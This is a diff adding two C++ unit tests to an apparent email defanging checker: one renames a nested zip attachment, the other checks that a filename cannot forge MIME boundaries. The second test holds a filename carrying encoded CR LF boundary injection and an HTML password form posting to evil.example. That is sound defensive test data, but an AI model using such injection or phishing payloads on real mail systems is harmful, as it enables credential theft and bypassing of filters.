@@ -440,6 +440,47 @@ TEST_F(MessageCheckerTest, RewriteCarriesTheSameVerdictAndDefangs) {
   EXPECT_EQ(Find(again.verdict, ReasonCode::kMailCredentialForm), nullptr);
 }
 
+TEST_F(MessageCheckerTest, AZipMemberDefangsItsArchive) {
+  absl::StatusOr<MessageRewrite> out = checker().Rewrite(
+      {.message = ReadFile(kDataDir + "nested_zip.eml"), .tenant = "defang"},
+      "");
+  ASSERT_TRUE(out.ok()) << out.status();
+  ASSERT_EQ(out->defanged.size(), 1u);
+  EXPECT_EQ(out->defanged[0].part, "2");
+  EXPECT_EQ(out->defanged[0].filename, "Invoice_pack.zip");
+  EXPECT_THAT(out->rewrite.content,
+              HasSubstr("filename=\"Invoice_pack.zip.txt\""));
+  EXPECT_THAT(out->rewrite.content, Not(HasSubstr("application/zip")));
+}
+
+TEST_F(MessageCheckerTest, AFileNameCannotForgeABoundaryInTheNotice) {
+  // RFC 2231 lets a file name carry CR LF; the notice quotes the name.
+  const std::string page =
+      "<form action=\"https://evil.example/p\"><input type=password></form>";
+  const std::string message = absl::StrCat(
+      "From: a@b.example\r\nMIME-Version: 1.0\r\n"
+      "Content-Type: multipart/mixed; boundary=x\r\n\r\n--x\r\n"
+      "Content-Type: text/plain\r\n\r\nsee attached\r\n--x\r\n"
+      "Content-Type: text/html\r\nContent-Disposition: attachment;\r\n"
+      " filename*=utf-8''a%0D%0A--x%0D%0AContent-Type:%20text/html%0D%0A.html"
+      "\r\n\r\n",
+      page, "\r\n--x--\r\n");
+  absl::StatusOr<MessageRewrite> out =
+      checker().Rewrite({.message = message, .tenant = "defang"}, "");
+  ASSERT_TRUE(out.ok()) << out.status();
+  ASSERT_EQ(out->defanged.size(), 1u);
+  const std::string& content = out->rewrite.content;
+  // The two parts' delimiters and the closing one: none forged by the
+  // name.
+  size_t delimiters = 0;
+  for (size_t at = content.find("\n--x"); at != std::string::npos;
+       at = content.find("\n--x", at + 1)) {
+    ++delimiters;
+  }
+  EXPECT_EQ(delimiters, 3u) << content;
+  EXPECT_EQ(Check(content).parts.size(), 2u);
+}
+
 TEST_F(MessageCheckerTest, ChecksHaveNoSideEffects) {
   const std::string message = ReadFile(kDataDir + "brand_spoof_link.eml");
   const MessageCheck check = Check(message);
